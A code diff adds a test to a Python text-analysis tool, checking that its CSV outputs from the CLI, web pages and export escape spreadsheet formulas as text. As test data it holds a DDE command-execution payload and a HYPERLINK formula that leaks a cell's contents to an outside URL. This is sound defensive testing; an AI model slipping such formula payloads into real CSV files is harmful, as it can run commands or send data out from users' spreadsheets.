@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
+import io
 import json
 from collections import Counter
 
@@ -13,7 +16,9 @@ from tealeaves.ingest import read_text
 from tealeaves.models import (
     Actor, DocumentResult, InputError, MixedMessage, Span, Standoff, Statement, Warning,
 )
+from tealeaves.output import FORMULA_STARTS
 from tealeaves.pipeline import analyze_documents
+from tealeaves import tables
 from tealeaves.cli import cli
 from tealeaves.escalation import escalation_codes
 from tealeaves.store import Store, UnsearchableQuery, snippet_pieces
@@ -413,3 +418,39 @@ def test_a_postgresql_store_indexed_with_english_words_is_indexed_again(store_ur
         store.db.execute("DELETE FROM migrations WHERE name = 'search_terms_of_sqlite'")
     with Store.open(store_url) as store:
         assert len(store.search("the")) == 5  # PostgreSQL's English configuration drops "the"
+
+
+# --- CSV a spreadsheet can open safely (issue 23, item 7) -----------------------------------
+
+FORMULA_OUTLET = "=cmd|' /C calc'!A0"
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_every_csv_output_writes_formulas_as_text(store_url, tmp_path):  # noqa: F811
+    from fastapi.testclient import TestClient
+
+    from tealeaves.store_export import read_export
+    from tealeaves.web.app import create_app
+
+    hostile = _coded(TUESDAY, "2022-01-11", FORMULA_OUTLET, [SIDOROV, SIDOROV], ["engage", None])
+    hostile = dataclasses.replace(hostile, document=dataclasses.replace(
+        hostile.document, title='=HYPERLINK("http://example.org/?"&A1, "open")'))
+    with Store.open(store_url) as store:
+        store.add(hostile, pipeline_version="test")
+    outputs = {"search -f csv": CliRunner().invoke(cli, ["search", "", "--db", store_url, "-f", "csv"]).stdout}
+    client = TestClient(create_app(store_url), base_url="http://127.0.0.1")
+    for page in ("/documents", "/search"):
+        outputs[page] = client.get(page, params={"format": "csv"}).text
+    assert CliRunner().invoke(cli, ["export", "--db", store_url, "--format", "csv",
+                                    "--out", str(tmp_path / "csv")]).exit_code == 0
+    outputs |= {path.name: path.read_text("utf-8") for path in (tmp_path / "csv").glob("*.csv")}
+    for name in ("search -f csv", "/documents", "/search", "documents.csv"):
+        assert "'" + FORMULA_OUTLET in _cells(outputs[name]), name
+    for name, text in outputs.items():
+        assert [cell for cell in _cells(text) if cell[:1] in FORMULA_STARTS] == [], name
+    exported = read_export(tmp_path / "csv", "csv")  # a round trip gives back the very titles
+    with Store.open(store_url, readonly=True) as store:
+        assert tables.results_from_rows(exported, {}) == list(store.results()) == [hostile]
